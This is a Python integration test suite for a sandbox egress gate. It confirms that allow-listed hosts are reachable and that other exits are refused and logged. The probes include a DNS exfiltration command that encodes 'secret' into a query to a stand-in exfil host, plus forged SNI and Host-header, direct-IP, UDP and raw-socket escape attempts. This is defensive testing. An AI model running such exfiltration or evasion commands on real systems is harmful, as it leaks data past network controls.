"""The egress gate from inside real rigs: curl to a granted test host (HTTP and HTTPS, served on host
loopback under a name only the gate knows), and every other way out refused and logged."""

from __future__ import annotations

import asyncio
import re
import ssl
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from hangar.rigs.backends.enclosure import EnclosureRig
from hangar.rigs.backends.enclosure.netns import RIG_ADDRESS
from hangar.rigs.egress.rules import GATE_ADDRESS
from tests.integration.rigs_enclosure_env import running_rig, spec
from tests.support.certs import self_signed

pytestmark = [pytest.mark.needs_root, pytest.mark.packs("terminal")]


async def serve(context: ssl.SSLContext | None, seen: list[str]) -> asyncio.AbstractServer:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        seen.append(head.split(b"\r\n")[0].decode())
        body = b"hello from the granted host over " + (b"https" if context else b"http") + b"\n"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (len(body), body))
        await writer.drain()
        writer.close()

    return await asyncio.start_server(handle, "127.0.0.1", 0, ssl=context)


@pytest.fixture
async def gated_rig(tmp_path: Path) -> AsyncIterator[tuple[EnclosureRig, list[str]]]:
    seen: list[str] = []
    plain = await serve(None, seen)
    tls = await serve(self_signed(tmp_path, "granted.test"), seen)
    http_port = int(plain.sockets[0].getsockname()[1])
    tls_port = int(tls.sockets[0].getsockname()[1])
    overrides = {
        "granted.test:80": ("127.0.0.1", http_port),
        "granted.test:443": ("127.0.0.1", tls_port),
        "later.test:80": ("127.0.0.1", http_port),
    }
    async with running_rig(spec(allow=frozenset({"granted.test"})), overrides) as rig:
        yield rig, seen
    plain.close()
    tls.close()


async def sh(rig: EnclosureRig, command: str) -> str:
    out = await rig.exec(command, timeout_s=30)
    return out.stdout + out.stderr


async def test_granted_host_is_reached_over_http_and_https(gated_rig: tuple[EnclosureRig, list[str]]) -> None:
    rig, seen = gated_rig
    assert (await sh(rig, "getent hosts granted.test")).split() == [GATE_ADDRESS, "granted.test"]
    assert await sh(rig, "curl -sS -m 10 http://granted.test/plain") == "hello from the granted host over http\n"
    assert await sh(rig, "curl -sSk -m 10 https://granted.test/tls") == "hello from the granted host over https\n"
    assert seen == ["GET /plain HTTP/1.1", "GET /tls HTTP/1.1"]
    allowed = [(e.kind, e.target) for e in rig.gate.events if e.allowed]
    assert ("http", "granted.test") in allowed and ("tls", "granted.test") in allowed


async def test_names_resolve_one_family_at_a_time_as_glib_asks(gated_rig: tuple[EnclosureRig, list[str]]) -> None:
    """GLib (WebKitGTK's network stack) looks names up per family with ``AI_ADDRCONFIG``; glibc refuses such an
    IPv4 lookup unasked on a host whose only IPv4 address is 127.0.0.1. The rig's loopback carries an address
    of its own so it is asked; IPv6 lookups still end at once (no IPv6 way out), and the address is no way out."""
    rig, seen = gated_rig
    lookup = (
        "python3 -c \"import socket, sys; print(sorted({{a[4][0] for a in socket.getaddrinfo('granted.test', 80, "
        'getattr(socket, sys.argv[1]), socket.SOCK_STREAM, 0, socket.AI_ADDRCONFIG)}}))" {} 2>&1 | tail -1'
    )
    assert (await sh(rig, lookup.format("AF_INET"))).strip() == f"['{GATE_ADDRESS}']"
    assert "Name or service not known" in await sh(rig, lookup.format("AF_INET6"))
    assert ("dns", "granted.test") in [(e.kind, e.target) for e in rig.gate.events if e.allowed]
    # The deny listener closes at once: curl sees an empty reply (52) or a reset (56), never a served page.
    assert re.search(r"rc=5[26]$", await sh(rig, f"curl -sS -m 10 http://{RIG_ADDRESS}:8000/; echo rc=$?"), re.M)
    assert ("tcp", f"{RIG_ADDRESS}:8000", "direct connection outside the gate") in [
        (e.kind, e.target, e.reason) for e in rig.gate.events if not e.allowed
    ]
    assert seen == []


async def test_everything_else_is_refused_and_logged(gated_rig: tuple[EnclosureRig, list[str]]) -> None:
    rig, seen = gated_rig
    # unlisted names: no answer (NXDOMAIN from the gate itself, nothing asked upstream)
    out = await sh(rig, "curl -sS -m 10 http://denied.example.com/; echo rc=$?")
    assert "Could not resolve host: denied.example.com" in out and "rc=6" in out
    exfil = await sh(rig, "dig +short +tries=1 +time=3 @8.8.8.8 c2VjcmV0.exfil.example.net; echo rc=$?")
    assert exfil.strip() == "rc=0"  # redirected to the gate: NXDOMAIN, no records
    # a listed name's address with a forged SNI / Host
    out = await sh(rig, f"curl -sS -m 10 --resolve denied.example.com:443:{GATE_ADDRESS} https://denied.example.com/")
    assert "curl: (35)" in out or "reset" in out or "closed" in out.lower()
    assert "403" in await sh(
        rig, f"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' -H 'Host: evil.example' http://{GATE_ADDRESS}/"
    )
    # direct IPs, other ports, IPv6, UDP
    for url in ("http://1.1.1.1/", "http://granted.test:8080/", "'http://[2001:db8::1]/'"):
        out = await sh(rig, f"curl -sS -m 10 {url}; echo rc=$?")
        assert "rc=52" in out or "rc=56" in out, out  # empty reply or reset: the gate hung up
    udp = "python3 -c \"import socket; socket.socket(socket.{}, socket.SOCK_DGRAM).sendto(b'x', ('{}', {}))\""
    await sh(rig, udp.format("AF_INET", "9.9.9.9", 123))
    await sh(rig, udp.format("AF_INET6", "2001:db8::9", 53))
    await asyncio.sleep(0.2)
    # the host's loopback (where the test servers listen) is not the rig's
    for port in {int(addr[1]) for addr in rig.gate._overrides.values()}:
        out = await sh(rig, f"curl -sS -m 5 http://127.0.0.1:{port}/; echo rc=$?")
        assert "rc=7" in out  # connection refused: nothing listens there inside the rig
    # raw sockets are not even available
    raw = await sh(rig, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)' 2>&1 | tail -1")
    assert "Operation not permitted" in raw
    assert seen == []  # nothing reached the test host
    denied = [(e.kind, e.target, e.reason) for e in rig.gate.events if not e.allowed]
    assert ("dns", "denied.example.com", "name not allow-listed") in denied
    assert ("dns", "c2vjcmv0.exfil.example.net", "name not allow-listed") in denied
    assert ("tls", "denied.example.com", "SNI not allow-listed") in denied
    assert ("http", "evil.example", "host not allow-listed") in denied
    assert ("tcp", "1.1.1.1:80", "direct connection outside the gate") in denied
    assert ("tcp", f"{GATE_ADDRESS}:8080", "direct connection outside the gate") in denied
    assert ("tcp", "[2001:db8::1]:80", "direct connection outside the gate") in denied
    assert sum(1 for kind, _, _ in denied if kind == "udp") == 2


async def test_hosts_granted_later_take_effect(gated_rig: tuple[EnclosureRig, list[str]]) -> None:
    rig, seen = gated_rig
    assert "rc=6" in await sh(rig, "curl -sS -m 10 http://later.test/; echo rc=$?")
    await rig.grant_hosts(["later.test"])
    assert await sh(rig, "curl -sS -m 10 http://later.test/now") == "hello from the granted host over http\n"
    assert seen == ["GET /now HTTP/1.1"]
